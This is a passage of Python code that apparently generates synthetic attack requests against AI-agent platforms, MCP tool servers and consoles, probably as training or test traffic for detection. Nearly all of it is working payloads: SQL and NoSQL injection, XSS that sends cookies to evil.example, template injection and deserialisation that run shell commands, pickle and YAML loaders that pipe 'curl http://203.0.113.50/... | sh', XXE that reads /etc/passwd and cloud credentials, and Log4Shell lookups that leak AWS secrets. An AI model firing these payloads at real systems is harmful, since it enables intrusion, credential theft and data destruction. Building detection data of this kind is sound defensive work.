    C.req(cat, "prototype-pollution", "PUT", "console.acme-ai.dev", "/api/agents/%s/settings" % rid_uuid(), BROWSERS[0],
          '{"display_name":"x","constructor":{"prototype":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}}')
    C.req(cat, "prototype-pollution", "GET", "flowise.acme-ai.dev", "/api/v1/chatflows?__proto__[polluted]=1&__proto__.toString=x", BROWSERS[1])
    mcp(C, cat, "prototype-pollution", "tools/call", None,
        raw_body=raw_tool_call("create_entities", '{"entities":[{"name":"a","\\u005f\\u005fproto\\u005f\\u005f":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}]}'))
    # deserialisation in uploaded artefacts
    ymls = ["!!python/object/apply:os.system ['curl -s http://203.0.113.50/x.sh | sh']\n",
            "agent:\n  name: helper\n  tools: !!python/object/new:subprocess.check_output [[\"id\"]]\n",
            "config: !!python/object/apply:subprocess.Popen\n  - !!python/tuple\n    - sh\n    - -c\n    - 'cat /etc/passwd > /tmp/x'\n"]
    for y in ymls:
        body, ct = multipart([("kind", "agent-config")], [("file", "agent.yaml", "application/x-yaml", y)], "py")
        C.req(cat, "yaml-deserialisation", "POST", "agent-registry.agents.svc.cluster.local", "/api/agents/upload", "python-requests/2.32.3", body, ct)
    pk = "cos\nsystem\n(S'curl http://203.0.113.50/p | sh'\ntR."
    body, ct = multipart([("name", "retriever-index")], [("file", "index.pkl", "application/octet-stream", pk)], "py")
    C.req(cat, "pickle-upload", "POST", "retrieval.agents.svc.cluster.local:8080", "/v1/indexes/import", "python-requests/2.32.3", body, ct)
    C.req(cat, "pickle-upload", "POST", "chains.agents.svc.cluster.local:8000", "/memory/restore", "python-httpx/0.28.1",
          json.dumps({"state": "c__builtin__\neval\n(Vexec(\"import os; os.system('id')\")\ntR."}))
    C.req(cat, "node-serialize", "POST", "console.acme-ai.dev", "/api/session/restore", BROWSERS[0],
          json.dumps({"profile": "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id', function(e,o){});}()\"}"}))


def atk_sqli(C):
    cat = "sqli"
    db = "db-mcp.data.svc.cluster.local:8000"
    tool_args = [("get_order", {"order_id": "1042 OR 1=1"}),
                 ("lookup_customer", {"email": "x' OR '1'='1' -- "}),
                 ("get_invoice", {"invoice_id": "INV-2025-0042' UNION SELECT username, password_hash, NULL FROM users--"}),
                 ("describe_table", {"table_name": "users; DROP TABLE users--"}),
                 ("list_tables", {"schema": "public' UNION SELECT usename, passwd FROM pg_shadow--"}),
                 ("get_user", {"user_id": "7 AND (SELECT 1 FROM pg_sleep(5))"}),
                 ("search_tickets", {"status": "open'; WAITFOR DELAY '0:0:5'--"}),
                 ("get_product", {"sku": "ABC-1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"}),
                 ("get_order", {"order_id": "1/**/UNION/**/SELECT/**/1,group_concat(table_name),3/**/FROM/**/information_schema.tables"}),
                 ("lookup_customer", {"email": "a@b.c' aNd 1=cOnVeRt(int,(sElEcT tOp 1 nAmE fRoM sYsObJeCtS))--"}),
                 ("get_account", {"account": "admin'--"}),
                 ("report_by_region", {"region": "EMEA') /*!50000UNION*/ /*!50000SELECT*/ 1,user(),database()-- -"}),
                 ("get_user", {"user_id": "1; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.50/$(id|base64)'--"}),
                 ("search_docs_sql", {"title": "x' || (SELECT CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN randomblob(300000000) ELSE 1 END)--"})]
    for n, a in tool_args[:10]:
        tool_call(C, cat, "tool-arg-sqli", n, a, host=db)
    # read-only transaction escape in postgres MCP query tool
    for q in ["COMMIT; DROP SCHEMA public CASCADE;", "SELECT 1; COMMIT; INSERT INTO users(email, role) VALUES ('x@evil.example','admin');--",
              "ROLLBACK; UPDATE accounts SET balance = 1e9 WHERE id = 7; --"]:
        tool_call(C, cat, "readonly-escape", "query", {"sql": q}, host=db)
    mcp(C, cat, "tool-arg-sqli-unicode", "tools/call", None, host=db,
        raw_body=raw_tool_call("get_order", '{"order_id":"1\\u0027 \\u004fR \\u00271\\u0027=\\u00271"}'))
    # LanceDB / Milvus SQL-like filter strings
    C.req(cat, "vector-filter-sqli", "POST", "retrieval.agents.svc.cluster.local:8080", "/v1/query", "python-httpx/0.28.1",
          json.dumps({"query": "refunds", "k": 5, "where": "tenant_id = 'acme' OR 1=1 --"}))
    C.req(cat, "vector-filter-sqli", "POST", "retrieval.agents.svc.cluster.local:8080", "/v1/query", "python-httpx/0.28.1",
          json.dumps({"query": "x", "filter": "source = 'a' UNION SELECT id, text, embedding FROM documents WHERE tenant_id <> 'acme'--"}))
    # query params of the consoles / APIs
    qp = [("dify.acme-ai.dev", "/v1/conversations?user=abc%27%20AND%20SLEEP(5)--%20-&limit=20"),
          ("dify.acme-ai.dev", "/v1/messages?conversation_id=%s&user=u1&first_id=1%%20UNION%%20ALL%%20SELECT%%20NULL,NULL,version()--" % rid_uuid()),
          ("langfuse.observability.svc.cluster.local:3000", "/api/public/traces?userId=u1%27%20OR%20%271%27%3D%271&limit=50"),
          ("langfuse.observability.svc.cluster.local:3000", "/api/public/traces?orderBy=timestamp%2C(SELECT%20CASE%20WHEN%20(1%3D1)%20THEN%201%20ELSE%201%2F0%20END)"),
          ("n8n.acme-ai.dev", "/rest/executions?filter=" + enc('{"workflowId":"1\' OR 1=1--"}') + "&limit=20"),
          ("langflow.acme-ai.dev", "/api/v1/monitor/messages?session_id=x%2527%2520UNION%2520SELECT%2520password%2Cusername%2520FROM%2520user--"),
          ("flowise.acme-ai.dev", "/api/v1/chatmessage/%s?chatId=1'%%3BSELECT%%20pg_sleep(10)--&order=DESC" % rid_uuid()),
          ("console.acme-ai.dev", "/api/agents?sort=name%20ASC%2C%20(SELECT%201%20FROM%20(SELECT%20SLEEP(5))a)&page=1"),
          ("retrieval.agents.svc.cluster.local:8080", "/v1/search?q=refund&tenant=acme%27)%20OR%20(%27a%27%3D%27a"),
          ("agents.acme-ai.dev", "/v1/tasks?contextId=1%20uNiOn%20sElEcT%201%2C2%2Ctable_name%20fRoM%20information_schema.tables--"),
          ]
    for h, u in qp:
        C.req(cat, "query-sqli", "GET", h, u, R.choice(["python-requests/2.32.3", "curl/8.7.1"] + BROWSERS), accept="application/json")
    C.req(cat, "header-sqli", "GET", "api.acme-ai.dev", "/v1/assistants?limit=20", "OpenAI/Python 1.107.0",
          extra=[["OpenAI-Organization", "org-acme' AND 1=(SELECT COUNT(*) FROM tabname); --"], ["Authorization", "Bearer sk-" + alnum(48)]])
    C.req(cat, "header-sqli", "GET", "mcp-gateway.internal.acme-ai.dev", "/api/servers", "node",
          extra=[["X-Tenant-Id", "acme' UNION SELECT api_key FROM tenants--"]])
    C.req(cat, "cookie-sqli", "GET", "console.acme-ai.dev", "/agents", BROWSERS[0],
          extra=[["Cookie", "console_session=%s; workspace=ws_1%%27%%20OR%%20%%271%%27%%3D%%271" % alnum(40)]])
    C.req(cat, "form-sqli", "POST", "langflow.acme-ai.dev", "/api/v1/login", BROWSERS[0],
          qs({"username": "admin' OR 1=1 LIMIT 1-- ", "password": "x"}), "application/x-www-form-urlencoded")
    C.req(cat, "json-sqli", "POST", "dify.acme-ai.dev", "/console/api/login", BROWSERS[2],
          json.dumps({"email": "admin@acme-ai.dev' AND (SELECT 6377 FROM (SELECT(SLEEP(5)))xyz)-- a", "password": "x", "remember_me": True}))


def atk_xss(C):
    cat = "xss"
    payloads = ["<script>fetch('//evil.example/c?'+document.cookie)</script>", "<img src=x onerror=alert(document.domain)>",
                "<svg/onload=alert(1)>", "\"><script src=https://evil.example/x.js></script>", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
                "<details open ontoggle=alert(document.cookie)>", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<a href=\"jav&#x09;ascript:alert(1)\">docs</a>",
                "<img src=1 oNeRrOr=confirm`1`>", "<body onload=eval(atob('YWxlcnQoMSk='))>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "'-alert(1)-'", "<input autofocus onfocus=alert(1)>"]
    # agent cards posted to a registry / console
    for i, p in enumerate(payloads[:5]):
        card = {"name": "Helper " + p if i % 2 else p, "description": "Currency helper", "url": "https://agent.partner.example/",
                "version": "1.0.0", "capabilities": {"streaming": True}, "skills": [{"id": "s1", "name": "convert", "description": p if i % 2 == 0 else "x", "tags": ["fx"]}]}
        C.req(cat, "agent-card-xss", "POST", "agent-registry.agents.svc.cluster.local", "/api/agents", "python-httpx/0.28.1",
              dumps(card, "go" if i == 3 else "py"))
    # A2A artifacts pushed back to the client console
    for p in payloads[5:8]:
        ev = {"id": rid_uuid(), "kind": "task", "status": {"state": "completed"}, "artifacts": [{"artifactId": rid_uuid(), "name": p + ".md",
                                                                                                  "parts": [{"kind": "text", "text": "done"}]}]}
        C.req(cat, "a2a-artifact-xss", "POST", "hooks.acme-ai.dev", "/a2a/notify", "a2a-js/0.3.1", json.dumps(ev))
    # OAuth DCR client metadata rendered on the consent screen
    for k, v in [("client_name", "<svg/onload=alert(document.domain)>"), ("client_uri", "javascript:alert(document.cookie)"),
                 ("logo_uri", "javascript:fetch('//evil.example/'+localStorage.token)"), ("policy_uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]:
        C.req(cat, "oauth-dcr-xss", "POST", "auth.acme-ai.dev", "/register", "node",
              json.dumps({"client_name": "x", "redirect_uris": ["http://localhost:33418/callback"], k: v}, separators=(",", ":")))
    # names/notes in builders and tracing
    C.req(cat, "flowise-name-xss", "POST", "flowise.acme-ai.dev", "/api/v1/chatflows", BROWSERS[0],
          json.dumps({"name": payloads[8], "flowData": "{\"nodes\":[],\"edges\":[]}", "deployed": False}))
    C.req(cat, "n8n-notes-xss", "PATCH", "n8n.acme-ai.dev", "/rest/workflows/" + alnum(16), BROWSERS[1],
          json.dumps({"name": "ok", "nodes": [{"name": "Set", "type": "n8n-nodes-base.set", "notes": payloads[9], "notesInFlow": True}]}))
    C.req(cat, "langfuse-trace-xss", "POST", "langfuse.observability.svc.cluster.local:3000", "/api/public/ingestion", "langfuse-python/3.3.4",
          json.dumps({"batch": [{"id": rid_uuid(), "type": "trace-create", "timestamp": iso(), "body": {"id": rid_uuid(), "name": payloads[10], "tags": [payloads[11]]}}]}))
    C.req(cat, "langsmith-run-xss", "POST", "langsmith.acme-ai.dev", "/runs/batch", "langsmith-py/0.4.31",
          '{"post":[{"id":"%s","name":"\\u003cimg src=x onerror=alert(document.domain)\\u003e","run_type":"tool","inputs":{}}],"patch":[]}' % rid_uuid())
    C.req(cat, "dify-app-xss", "POST", "dify.acme-ai.dev", "/console/api/apps", BROWSERS[0],
          json.dumps({"name": "Support", "mode": "chat", "description": "<a href=javascript:alert(1)>help</a>", "icon": "🤖"}, ensure_ascii=False))
    tool_call(C, cat, "mcp-tool-arg-xss", "send_slack_message", {"channel": "#general", "text": payloads[12] + "<script>alert(1)</script>"})
    tool_call(C, cat, "mcp-tool-arg-xss", "create_issue", {"owner": "acme", "repo": "x", "title": "bug", "body": "[Download report](javascript:alert(document.domain))\n" + payloads[13]})
    # reflected via query strings
    for h, u in [("flowise.acme-ai.dev", "/chatbot/%s?theme=%%22%%3E%%3Cscript%%3Ealert(1)%%3C%%2Fscript%%3E" % rid_uuid()),
                 ("localhost:33418", "/callback?error=access_denied&error_description=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E"),
                 ("auth.acme-ai.dev", "/authorize?client_id=c1&response_type=code&redirect_uri=javascript%3Aalert(document.domain)%2F%2F&state=x"),
                 ("console.acme-ai.dev", "/search?q=%253Csvg%252Fonload%253Dalert(1)%253E"),
                 ("langflow.acme-ai.dev", "/playground/%s?name=%%3CsVg%%20oNlOaD%%3Dprompt(1)%%3E" % rid_uuid()),
                 ("n8n.acme-ai.dev", "/form/%s?prefill=%%22onmouseover%%3D%%22alert(1)" % rid_uuid()),
                 ("dify.acme-ai.dev", "/chat/%s?redirect=%%6a%%61%%76%%61%%73%%63%%72%%69%%70%%74%%3aalert(1)" % alnum(16))]:
        C.req(cat, "reflected-xss", "GET", h, u, BROWSERS[R.randint(0, 4)], accept="text/html")
    C.req(cat, "header-xss", "GET", "console.acme-ai.dev", "/agents", "Mozilla/5.0 <script>alert(document.domain)</script>",
          extra=[["Referer", "https://evil.example/\"><svg onload=alert(1)>"]])
    body, ct = multipart([], [("file", "logo.svg", "image/svg+xml",
                               "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>alert(document.domain)</script><rect width=\"10\" height=\"10\"/></svg>")])
    C.req(cat, "svg-upload-xss", "POST", "console.acme-ai.dev", "/api/agents/%s/avatar" % rid_uuid(), BROWSERS[0], body, ct)


def atk_ssti(C):
    cat = "ssti"
    jinja = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}",
             "{{ ''.__class__.__mro__[1].__subclasses__() }}",
             "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
             "{{ lipsum.__globals__['os'].popen('curl http://203.0.113.50/x|sh').read() }}",
             "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
             "{{ config.__class__.__init__.__globals__['os'].popen('env').read() }}",
             "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}",
             "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
             "{{ namespace.__init__.__globals__.os.system('id') }}",
             "{{ joiner.__init__.__globals__['__builtins__']['eval'](\"__import__('os').popen('whoami').read()\") }}"]
    for i, p in enumerate(jinja):
        k = i % 5
        if k == 0:
            mcp(C, cat, "prompts-get-ssti", "prompts/get", {"name": R.choice(["summarize_thread", "draft_email"]), "arguments": {"topic": p}})
        elif k == 1:
            C.req(cat, "langserve-jinja2", "POST", "chains.agents.svc.cluster.local:8000", "/prompt/invoke", "python-httpx/0.28.1",
                  json.dumps({"input": {"template": "Hello " + p, "template_format": "jinja2", "name": "x"}}))
        elif k == 2:
            C.req(cat, "dify-template-node", "POST", "dify.acme-ai.dev", "/console/api/apps/%s/workflows/draft/nodes/1733/run" % rid_uuid(), BROWSERS[0],
                  json.dumps({"inputs": {"arg1": "x"}, "template": p}))
        elif k == 3:
            C.req(cat, "langflow-prompt-ssti", "POST", "langflow.acme-ai.dev", "/api/v1/run/%s" % rid_uuid(), "python-requests/2.32.3",
                  json.dumps({"input_value": "hi", "tweaks": {"Prompt-" + alnum(5): {"template": p, "template_format": "jinja2"}}}))
        else:
            C.req(cat, "query-ssti", "GET", "retrieval.agents.svc.cluster.local:8080", "/v1/render?tpl=" + enc(p), "curl/8.7.1")
    others = [("freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
              ("velocity", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
              ("thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
              ("mako", "${self.module.cache.util.os.system('id')}"),
              ("erb", "<%= `cat /etc/passwd` %>"),
              ("twig", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
              ("nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
              ("handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
              ("pebble", "{% set cmd = 'id' %}{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd) }}"),
              ("jinja-encoded", None)]
    for n, p in others:
        if p is None:
            C.req(cat, "ssti-encoded", "GET", "console.acme-ai.dev", "/api/preview?subject=%7B%7B%20self.__init__.__globals__.__builtins__.__import__(%27os%27).popen(%27id%27).read()%20%7D%7D",
                  BROWSERS[0])
            continue
        C.req(cat, "ssti-" + n, "POST", R.choice(["spring-ai-gateway.agents.svc.cluster.local:8080", "console.acme-ai.dev", "notify.agents.svc.cluster.local"]),
              "/api/templates/preview", R.choice(JS_UAS + PY_UAS), json.dumps({"name": "welcome", "body": p, "vars": {"name": "Dana"}}))


def atk_nosqli(C):
    cat = "nosqli"
    tool_call(C, cat, "mongo-mcp-where", "find", {"database": "app", "collection": "users", "filter": {"$where": "sleep(5000) || true"}})
    tool_call(C, cat, "mongo-mcp-where", "find", {"database": "app", "collection": "tenants", "filter": {"$where": "function(){ return this.apiKey.match(/^sk-a/) != null }"}})
    tool_call(C, cat, "mongo-mcp-function", "aggregate", {"database": "app", "collection": "docs", "pipeline": [
        {"$match": {"$expr": {"$function": {"body": "function(){ var d = new Date(); while(new Date() - d < 5000){}; return true; }", "args": [], "lang": "js"}}}}]})
    C.req(cat, "vector-filter-nosqli", "POST", "retrieval.agents.svc.cluster.local:8080", "/v1/query", "python-httpx/0.28.1",
          json.dumps({"query": "salary bands", "k": 20, "filter": {"tenant_id": {"$ne": "acme"}}}))
    C.req(cat, "vector-filter-nosqli", "POST", "retrieval.agents.svc.cluster.local:8080", "/v1/query", "python-httpx/0.28.1",
          json.dumps({"query": "x", "filter": {"owner": {"$regex": ".*"}, "$where": "this.acl.length >= 0"}}))
    C.req(cat, "chroma-where-nosqli", "POST", "chroma.vector.svc.cluster.local:8000",
          "/api/v2/tenants/default_tenant/databases/default_database/collections/%s/get" % rid_uuid(), "chromadb-python/1.1.0",
          json.dumps({"where": {"$or": [{"tenant": "acme"}, {"tenant": {"$ne": "acme"}}]}, "where_document": {"$regex": "(a+)+$"}, "limit": 1000}))
    for h, u in [("retrieval.agents.svc.cluster.local:8080", "/v1/documents?metadata[owner][$ne]=alice&limit=500"),
                 ("console.acme-ai.dev", "/api/agents?filter[tenant][$regex]=.*&filter[deleted][$exists]=true"),
                 ("retrieval.agents.svc.cluster.local:8080", "/v1/search?q=x&where=" + enc('{"$where":"this.secret.match(/^a/)"}')),
                 ("console.acme-ai.dev", "/api/users?email%5B%24gt%5D=&role=admin")]:
        C.req(cat, "query-nosqli", "GET", h, u, R.choice(["curl/8.7.1", BROWSERS[0], "python-requests/2.32.3"]))
    for body in ['{"username":{"$ne":null},"password":{"$ne":null}}', '{"email":"admin@acme-ai.dev","password":{"$gt":""}}',
                 '{"username":"admin","password":{"\\u0024ne":"x"}}']:
        C.req(cat, "login-nosqli", "POST", "console.acme-ai.dev", "/api/auth/login", BROWSERS[R.randint(0, 4)], body)
    C.req(cat, "form-nosqli", "POST", "console.acme-ai.dev", "/api/auth/login", BROWSERS[0], "username=admin&password%5B%24ne%5D=x",
          "application/x-www-form-urlencoded")
    C.req(cat, "mapreduce-nosqli", "POST", "mongo-api.data.svc.cluster.local:8080", "/api/collections/runs/mapReduce", "python-requests/2.32.3",
          json.dumps({"map": "function(){ emit(1, db.getSiblingDB('admin').system.users.find().toArray()) }", "reduce": "function(k,v){return v}"}))


def atk_xxe(C):
    cat = "xxe"
    svg = ("<?xml version=\"1.0\" standalone=\"yes\"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\" > ]>\n"
           "<svg width=\"128px\" height=\"128px\" xmlns=\"http://www.w3.org/2000/svg\"><text font-size=\"16\" x=\"0\" y=\"16\">&xxe;</text></svg>")
    docx = ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///var/run/secrets/kubernetes.io/serviceaccount/token\">]>\n"
            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>")
    oob = ("<?xml version=\"1.0\"?>\n<!DOCTYPE data [\n  <!ENTITY % remote SYSTEM \"http://203.0.113.50/evil.dtd\">\n  %remote;\n  %send;\n]>\n<data>x</data>")
    ssrf = ("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><r>&m;</r>")
    xinc = ("<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/shadow\"/></root>")
    rss = ("<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY e SYSTEM \"php://filter/convert.base64-encode/resource=/app/.env\">]>\n"
           "<rss version=\"2.0\"><channel><title>News</title><item><title>&e;</title><link>https://example.com/</link></item></channel></rss>")
    lol = ("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
           "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\"><!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]>\n<lolz>&lol4;</lolz>")
    xliff = ("<?xml version=\"1.0\"?><!DOCTYPE xliff SYSTEM \"http://203.0.113.50/x.dtd\"><xliff version=\"1.2\"><file source-language=\"en\"><body><trans-unit id=\"1\"><source>Hi</source></trans-unit></body></file></xliff>")
    uploads = [("logo.svg", "image/svg+xml", svg, "console.acme-ai.dev", "/api/agents/%s/avatar" % rid_uuid()),
               ("document.xml", "application/xml", docx, "dify.acme-ai.dev", "/v1/files/upload"),
               ("contract.xml", "text/xml", oob, "flowise.acme-ai.dev", "/api/v1/vector/upsert/" + rid_uuid()),
               ("feed.rss", "application/rss+xml", rss, "retrieval.agents.svc.cluster.local:8080", "/v1/documents"),
               ("strings.xlf", "application/x-xliff+xml", xliff, "langflow.acme-ai.dev", "/api/v2/files")]
    for fn, ct_, content, h, p in uploads:
        body, ct = multipart([("user", "u1")], [("file", fn, ct_, content)], R.choice(["webkit", "py", "undici"]))
        C.req(cat, "xxe-upload", "POST", h, p, R.choice(BROWSERS + ["python-requests/2.32.3"]), body, ct)
    C.req(cat, "xxe-body", "POST", "spring-ai-gateway.agents.svc.cluster.local:8080", "/api/agents/invoke", "Apache-HttpClient/5.3.1 (Java/21.0.4)",
          ssrf, "application/xml")
    C.req(cat, "xxe-body", "POST", "retrieval.agents.svc.cluster.local:8080", "/v1/ingest/xml", "python-requests/2.32.3", xinc, "text/xml")
    C.req(cat, "xxe-body", "POST", "chains.agents.svc.cluster.local:8000", "/parse/invoke", "python-httpx/0.28.1", lol, "application/xml")
    C.req(cat, "xxe-soap", "POST", "erp-mcp.enterprise.svc.cluster.local:8080", "/ws/OrderService", "Apache-CXF/4.0.5",
          "<?xml version=\"1.0\"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM \"file:///opt/app/conf/application.properties\">]>"
          "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><getOrder><id>&xxe;</id></getOrder></soap:Body></soap:Envelope>",
          "text/xml; charset=utf-8", extra=[["SOAPAction", "\"getOrder\""]])
    tool_call(C, cat, "xxe-tool-arg", "parse_xml", {"xml": svg.replace("&xxe;", "&xxe; ok")})
    tool_call(C, cat, "xxe-tool-arg", "convert_document", {"format": "docx", "content_xml": docx})


def atk_ldapi(C):
    cat = "ldapi"
    vals = [("search_users", "username", "*)(uid=*))(|(uid=*"), ("search_users", "username", "admin)(&)"),
            ("get_group_members", "group", "*)(objectClass=*"), ("lookup_employee", "email", "admin*)((|userPassword=*)"),
            ("search_users", "name", "*)(|(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local)"),
            ("authenticate", "user", "*)(&(objectClass=user)(userPassword=*))%00")]
    for t, k, v in vals:
        tool_call(C, cat, "directory-tool-ldapi", t, {k: v, "base_dn": "dc=corp,dc=local"}, host="ldap-mcp.enterprise.svc.cluster.local:8000")
    for u in ["/api/directory/users?uid=%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A",
              "/api/directory/search?cn=jdoe)(|(objectclass=*)&attrs=mail,telephoneNumber",
              "/api/directory/users?mail=*)(userPassword=*))%00"]:
        C.req(cat, "query-ldapi", "GET", "hr-agent.enterprise.svc.cluster.local:8080", u, "python-requests/2.32.3")
    C.req(cat, "form-ldapi", "POST", "n8n.acme-ai.dev", "/rest/login", BROWSERS[0],
          json.dumps({"emailOrLdapLoginId": "*)(uid=*))(|(uid=*", "password": "x"}))


def atk_crlf(C):
    cat = "crlf"
    for u in ["/callback?code=abc&state=xyz%0d%0aSet-Cookie:%20session=attacker;%20Path=/",
              "/authorize?client_id=c1&response_type=code&redirect_uri=https%3A%2F%2Fapp.acme-ai.dev%2Fcb%0D%0ALocation%3A%20https%3A%2F%2Fevil.example",
              "/oauth/logout?next=/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E",
              "/webhook/abc%0d%0aX-Injected:%20true", "/redirect?to=https://acme-ai.dev/%250d%250aSet-Cookie:%2520admin=1",
              "/login?return=%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"]:
        C.req(cat, "query-crlf", "GET", R.choice(["auth.acme-ai.dev", "n8n.acme-ai.dev", "console.acme-ai.dev"]), u, BROWSERS[R.randint(0, 4)])
    # header maps forwarded by gateways / tools
    tool_call(C, cat, "tool-header-map-crlf", "http_request", {"method": "GET", "url": "https://api.partner.example/v1/status",
                                                               "headers": {"X-Trace": "1\r\nX-Forwarded-For: 127.0.0.1\r\nX-Admin: true"}})
    tool_call(C, cat, "tool-header-map-crlf", "fetch", {"url": "https://api.partner.example/", "headers": {"User-Agent": "agent\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost"}})
    a2a(C, cat, "a2a-push-auth-crlf", "tasks/pushNotificationConfig/set",
        {"taskId": rid_uuid(), "pushNotificationConfig": {"url": "https://hooks.partner.example/n", "token": "t0k\r\nHost: internal-admin.svc\r\nX-Internal: 1",
                                                          "authentication": {"schemes": ["Bearer"], "credentials": "abc\r\nSet-Cookie: sid=evil"}}})
    C.req(cat, "gateway-config-crlf", "POST", "mcp-gateway.internal.acme-ai.dev", "/api/servers", "python-httpx/0.28.1",
          json.dumps({"name": "crm", "url": "https://crm.partner.example/mcp", "headers": {"Authorization": "Bearer x%0d%0aX-Tenant: other-tenant"}}))
    C.req(cat, "n8n-header-param-crlf", "POST", "n8n.acme-ai.dev", "/rest/workflows/run", BROWSERS[0],
          json.dumps({"workflowData": {"nodes": [{"parameters": {"url": "https://api.partner.example/", "sendHeaders": True,
                                                                 "headerParameters": {"parameters": [{"name": "X-Id", "value": "1\r\nContent-Length: 0\r\n\r\nPOST /internal HTTP/1.1"}]}},
                                                  "type": "n8n-nodes-base.httpRequest"}]}}))
    C.req(cat, "form-crlf", "POST", "auth.acme-ai.dev", "/token", "node",
          "grant_type=authorization_code&code=abc&redirect_uri=http%3A%2F%2Flocalhost%3A33418%2Fcallback%0D%0ASet-Cookie%3A%20a%3Db&client_id=c1",
          "application/x-www-form-urlencoded")


def atk_java(C):
    cat = "java"
    l4j = ["${jndi:ldap://203.0.113.50:1389/a}", "${${lower:j}${lower:n}${lower:d}i:ldap://198.51.100.7/x}",
           "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.50:1099/Exploit}", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.evil.example}",
           "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.50/a}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.evil.example/b}",
           "${${upper:j}ndi:${upper:l}${upper:d}a${lower:p}://203.0.113.50/c}"]
    hdrs = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization", "X-Request-Id", "Mcp-Session-Id"]
    for i, p in enumerate(l4j):
        h = hdrs[i % len(hdrs)]
        ua = p if h == "User-Agent" else "Apache-HttpClient/5.3.1 (Java/21.0.4)"
        extra = [] if h == "User-Agent" else [[h, ("Bearer " + p) if h == "Authorization" else p]]
        C.req(cat, "log4shell-header", "GET" if i % 2 else "POST", "spring-ai-gateway.agents.svc.cluster.local:8080",
              "/mcp" if h == "Mcp-Session-Id" else "/api/v1/chat", ua,
              None if i % 2 else json.dumps({"message": "hello"}), extra=extra)
    tool_call(C, cat, "log4shell-tool-arg", "search_tickets", {"query": "${jndi:ldap://203.0.113.50:1389/Basic/Command/Base64/aWQ=}"},
              host="spring-ai-gateway.agents.svc.cluster.local:8080")
    C.req(cat, "log4shell-query", "GET", "spring-ai-gateway.agents.svc.cluster.local:8080", "/api/v1/agents?name=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.50%2Fz%7D",
          "curl/8.7.1")
    C.req(cat, "spring-cloud-function-spel", "POST", "spring-ai-gateway.agents.svc.cluster.local:8080", "/functionRouter", "curl/8.7.1", "x", "text/plain",
          extra=[["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"curl http://203.0.113.50/s.sh -o /tmp/s\")"]])
